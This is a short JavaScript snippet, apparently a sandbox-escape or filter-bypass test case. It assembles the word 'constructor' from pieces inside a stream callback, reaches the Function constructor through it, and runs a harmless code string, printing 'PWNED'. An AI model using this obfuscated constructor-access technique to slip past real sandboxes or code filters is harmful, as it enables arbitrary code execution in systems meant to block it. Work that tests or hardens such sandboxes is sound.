// A name in pieces through streams and callbacks, read of what the runtime has made.
const { Readable } = require("stream");
let parts = ["CON", "STRUC", "TOR"], name = "";
const r = new Readable({ read() { for (const p of parts) name += p.toLowerCase(); console.log("PWNED", this.push[name]("return 7")()); this.push(null); } });
r.resume();
